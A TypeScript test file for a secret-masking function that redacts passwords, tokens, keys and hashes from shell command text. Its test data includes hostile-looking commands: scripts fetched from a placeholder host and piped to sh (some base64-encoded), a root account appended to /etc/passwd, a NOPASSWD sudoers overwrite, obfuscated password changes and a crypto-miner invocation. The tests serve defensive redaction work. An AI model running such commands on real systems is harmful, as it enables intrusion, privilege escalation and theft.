import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { findSecrets, maskSecrets } from './mask-secrets.js'

const base64 = (text: string) => Buffer.from(text).toString('base64')

const masked: readonly (readonly [title: string, typed: string, shown: string])[] = [
  ['a password for chpasswd', 'echo "root:hunter2x"|chpasswd|bash', 'echo "root:***"|chpasswd|bash'],
  ['the lines for passwd', 'echo -e "old\\nnew\\nnew"|passwd', 'echo -e "***"|passwd'],
  ['a group that feeds passwd', '(echo pw1; echo pw1) | passwd root', '(echo ***; echo ***) | passwd root'],
  ['a brace group', '{ echo pw1; echo pw1; } | passwd', '{ echo ***; echo ***; } | passwd'],
  ['a printf format', "printf 'root:%s\\n' s3cr | sudo chpasswd", "printf 'root:***' *** | sudo chpasswd"],
  ['passwd --stdin', 'echo s3cr | passwd --stdin root', 'echo *** | passwd --stdin root'],
  ['a here-string', 'passwd <<< "s3cr"', 'passwd <<< "***"'],
  ['a here-document', 'chpasswd <<EOF\nroot:s3cr\nEOF\nls', 'chpasswd <<EOF\n***\nEOF\nls'],
  [
    'pairs kept in a file first',
    'echo root:s3cr > /tmp/p; chpasswd < /tmp/p',
    'echo root:*** > /tmp/p; chpasswd < /tmp/p',
  ],
  ['sudo -S', 'echo s3cr | sudo -S id', 'echo *** | sudo -S id'],
  ['usermod', 'usermod -p s3cr root', 'usermod -p *** root'],
  ['a nested command', 'useradd -p "$(openssl passwd -1 s3cr)" u', 'useradd -p "$(openssl passwd -1 ***)" u'],
  ['openssl passwd', 'openssl passwd -6 -salt xx s3cr', 'openssl passwd -6 -salt xx ***'],
  ['openssl enc', 'openssl enc -aes-256-cbc -k s3cr -in x', 'openssl enc -aes-256-cbc -k *** -in x'],
  ['sshpass', 'sshpass -ps3cr ssh root@192.0.2.1', 'sshpass -p*** ssh root@192.0.2.1'],
  ['mysql', 'mysql -uroot -ps3cr -e "show tables"', 'mysql -uroot -p*** -e "show tables"'],
  ['curl', 'curl -u "bob:s3cr" http://192.0.2.1/', 'curl -u "bob:***" http://192.0.2.1/'],
  ['wget', 'wget --ftp-password=s3cr --user=bob ftp://x', 'wget --ftp-password=*** --user=bob ftp://x'],
  ['ftpget', 'busybox ftpget -u anonymous -p s3cr -P 21 h a b', 'busybox ftpget -u anonymous -p *** -P 21 h a b'],
  ['zip', 'zip -P s3cr a.zip b', 'zip -P *** a.zip b'],
  ['redis-cli', 'redis-cli -a s3cr ping', 'redis-cli -a *** ping'],
  ['requirepass', 'config set requirepass s3cr', 'config set requirepass ***'],
  ['net user', 'net user bob s3cr /add', 'net user bob *** /add'],
  ['a shell inside a shell', "sh -c 'mysql -ps3cr'", "sh -c 'mysql -p***'"],
  ['a URL', 'wget http://bob:s3cr@192.0.2.1/x', 'wget http://bob:***@192.0.2.1/x'],
  ['an at sign inside', 'curl ftp://bob:p@ss@192.0.2.1/a', 'curl ftp://bob:***@192.0.2.1/a'],
  ['an assignment', 'export DB_PASSWORD=s3cr', 'export DB_PASSWORD=***'],
  ['a quoted assignment', 'API_KEY="s3cr t" ./run', 'API_KEY="***" ./run'],
  ['JSON', '{"password":"s3cr","user":"x"}', '{"password":"***","user":"x"}'],
  ['escaped JSON', '{\\"token\\": \\"s3cr\\"}', '{\\"token\\": \\"***\\"}'],
  ['a query', '/login?user=x&pwd=s3cr&next=1', '/login?user=x&pwd=***&next=1'],
  ['a bearer token', "curl -H 'Authorization: Bearer s3cr.abc' x", "curl -H 'Authorization: Bearer ***' x"],
  ['cookies', 'Cookie: a=s3cr; b=t0p\r\nHost: x', 'Cookie: ***\r\nHost: x'],
  ['an AWS key pair', 'AKIAABCDEFGHIJKLMNOP aws_secret_access_key = s3cr', '*** aws_secret_access_key = ***'],
  ['a GitHub token', `git clone https://ghp_${'a1'.repeat(18)}@github.com/a/b`, 'git clone https://***@github.com/a/b'],
  ['a web token', 'echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', 'echo ***'],
  ['a password hash', "grep '$6$abcd$efghijklmnop' f", "grep '***' f"],
  ['a public key body', 'echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB me >> k', 'echo ssh-rsa *** me >> k'],
  ['a letter behind flags', "curl -su 'bob:s3cr' http://x", "curl -su 'bob:***' http://x"],
  ['flags and a value in one word', 'mysql -Bps3cr -e x', 'mysql -Bp*** -e x'],
  ['a header in backslashes', 'curl -H Authorization:\\ Bearer\\ s3cr x', 'curl -H Authorization:\\ Bearer\\ *** x'],
  ['a broken-up program', 'ss""hpass -p s3cr ssh x', 'ss""hpass -p *** ssh x'],
  ['a broken-up pipe', "e''cho root:s3cr | chp\\asswd", "e''cho root:*** | chp\\asswd"],
  ['a broken-up name', "export PASS'W'ORD=s3cr", "export PASS'W'ORD=***"],
  ['a broken-up secret', 'TOKEN=s3""cr ./x', 'TOKEN=*** ./x'],
  ['two quoted halves', `TOKEN="s3"'cr' ./x`, 'TOKEN=*** ./x'],
  ['a program that is looked up', '$(which mysql) -ps3cr -e x', '$(which mysql) -p*** -e x'],
  ['words behind a substitution', 'mysql -h $(cat h) -ps3cr', 'mysql -h $(cat h) -p***'],
  ['field separators', 'sshpass${IFS}-p${IFS}s3cr', 'sshpass${IFS}-p${IFS}***'],
  ['a variable', 'p=s3cr; echo root:$p|chpasswd', 'p=***; echo root:***|chpasswd'],
  ['a variable of a variable', 'q=s3cr; p="$q"; sshpass -p $p ssh x', 'q=***; p="***"; sshpass -p *** ssh x'],
  ['a loop', 'for p in s3cr t0p; do echo "root:$p"|chpasswd; done', 'for p in ***; do echo "root:***"|chpasswd; done'],
  ['base64', `echo ${base64('echo root:s3cr|chpasswd')}|base64 -d|sh`, 'echo ***|base64 -d|sh'],
  [
    'base64 in base64',
    `echo ${base64(`echo ${base64('mysql -ps3cr')}|base64 -d|sh`)}|base64 -d|sh`,
    'echo ***|base64 -d|sh',
  ],
  [
    'base64 of UTF-16',
    `powershell -enc ${Buffer.from('net user bob s3cr /add', 'utf16le').toString('base64')}`,
    'powershell -enc ***',
  ],
  [
    'hexadecimal digits',
    `echo ${Buffer.from('export TOKEN=s3cr').toString('hex')}|xxd -r -p|sh`,
    'echo ***|xxd -r -p|sh',
  ],
  ['hexadecimal codes', "printf 'TOK\\x45N=\\x73\\x33cr'|sh", "printf 'TOK\\x45N=***'|sh"],
  ['an escaped hash', 'echo x:\\$6\\$salt\\$s3cr3ts >> f', 'echo x:*** >> f'],
  ["a miner's password", 'xmrig -o h:3333 -u w -p s3cr', 'xmrig -o h:3333 -u w -p ***'],
  ['SQL', "alter user x identified by 's3cr'", "alter user x identified by '***'"],
]

const kept = [
  'mkdir -p /tmp/.x && ssh -p 2222 root@192.0.2.1',
  'cat /etc/passwd | grep root',
  'docker run -p 80:80 -u 1000:1000 nginx',
  'echo "x:x:0:0::/root:/bin/bash" >> /etc/passwd',
  'echo "a ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers',
  'ssh -o PasswordAuthentication=no -i key r@192.0.2.1',
  'grep -rniE "passw(or)?d|secret|api_key" /etc',
  'grep "password=" /var/www -r',
  'cat /run/secrets/token; passwd root; PWD=/tmp ls',
  'scp -P 22 x user@192.0.2.1:/y',
  'uname -a; curl -O http://192.0.2.1/a.sh',
  'w""get http://192.0.2.1/a.sh; c\\at /etc/passwd',
  'h=192.0.2.1; ssh -p 22 root@$h',
  `echo ${base64('wget http://192.0.2.1/a.sh; sh a.sh')} | base64 -d | sh`,
  'echo -e "\\x6b\\x61"; curl -sSLo x http://192.0.2.1/a.sh',
]

describe('maskSecrets', () => {
  it.each(masked)('masks %s', (_title, typed, shown) => {
    expect(maskSecrets(typed)).toBe(shown)
  })

  it.each(kept)('leaves %s', (typed) => {
    expect(maskSecrets(typed)).toBe(typed)
  })

  it('masks the body of a private key, even of one whose end was cut off', () => {
    expect(maskSecrets('-----BEGIN RSA PRIVATE KEY-----\nMIIE')).toBe('-----BEGIN RSA PRIVATE KEY-----***')
  })

  it('tells nothing of the length of a secret', () => {
    expect(maskSecrets('PASSWORD=a')).toBe(maskSecrets(`PASSWORD=${'b'.repeat(300)}`))
  })

  it('lets no password survive in any form that a command takes it', () => {
    const canary = fc.stringMatching(/^[A-Za-z0-9!%+,./_^~]{6,24}$/).map((text) => `Zq${text}`)
    const forms: readonly ((secret: string) => string)[] = [
      (secret) => `echo "root:${secret}" | chpasswd`,
      (secret) => `echo -e "${secret}\\n${secret}" | passwd`,
      (secret) => `yes '${secret}' | sudo passwd root; ls`,
      (secret) => `(echo ${secret}; sleep 1; echo ${secret}) | passwd`,
      (secret) => `sudo usermod -p '${secret}' root && id`,
      (secret) => `sshpass -p ${secret} ssh root@192.0.2.1`,
      (secret) => `mysql -uroot -p${secret}`,
      (secret) => `mysqldump --password='${secret}' --all-databases`,
      (secret) => `curl -s -u admin:${secret} http://192.0.2.1`,
      (secret) => `wget --user=a --password ${secret} http://192.0.2.1/a`,
      (secret) => `export MYSQL_PWD=${secret}; id`,
      (secret) => `{"user":"a","password":"${secret}"}`,
      (secret) => `-H "Authorization: Basic ${secret}"`,
      (secret) => `openssl enc -aes-256-cbc -pass pass:${secret}`,
      (secret) => `bash -c "echo root:${secret} | chpasswd"`,
      (secret) => `redis-cli -h 192.0.2.1 -a ${secret}`,
    ]
    fc.assert(
      fc.property(canary, fc.constantFrom(...forms), (secret, form) => {
        expect(maskSecrets(form(secret))).not.toContain(secret)
      }),
    )
  })

  it('changes nothing on a second pass', () => {
    const piece = fc.constantFrom(
      ...[
        'password',
        'token=',
        '"',
        "'",
        '\\',
        ' ',
        ':',
        '=',
        '@',
        '//',
        '|',
        'passwd',
        'chpasswd',
        'echo ',
        '<<<',
        '***',
      ],
      ...[
        '-p',
        'mysql ',
        'curl -u ',
        'a',
        'x:y',
        '\n',
        '(',
        ')',
        '$(',
        '`',
        '&',
        ';',
        'Cookie: ',
        'Bearer ',
        'openssl ',
      ],
      ...[
        '""',
        "''",
        '$p',
        'p=',
        '${IFS}',
        '\\x41',
        '\\x27',
        '\\ ',
        '-su',
        '$(which mysql)',
        'for p in ',
        'base64 ',
        'Authorization:',
      ],
      base64('echo root:s3cr|chpasswd'),
    )
    const text = fc.oneof(
      fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join('')),
      fc.string({ unit: 'binary' }),
    )
    fc.assert(
      fc.property(text, (typed) => {
        const once = maskSecrets(typed)
        expect(maskSecrets(once)).toBe(once)
      }),
      { numRuns: 3000 },
    )
  })

  it('returns on hostile text of any size', () => {
    for (const unit of [
      'password="',
      'a:@',
      '-eyJ',
      'passwd <<E\n',
      '-----BEGIN A PRIVATE KEY-----',
      '|passwd',
      '\\"',
      'curl ',
      'p=$p ',
      'p=$p:',
      'mysql$(',
      `mysql "'`,
      '""a',
      'base64 cGFzc3dvcmQ9eA== ',
      'Authorization:\\ ',
      '\\\\\\\\x4',
    ]) {
      expect(maskSecrets(unit.repeat(20_000)).length).toBeGreaterThan(0)
    }
  })
})

describe('findSecrets', () => {
  it('names what is masked, in the order of the text', () => {
    expect(findSecrets('p=s3cr; sshpass -p $p ssh x; TOKEN=t0""p')).toEqual(['s3cr', '$p', 't0""p'])
    expect(findSecrets('uname -a')).toEqual([])
  })
})
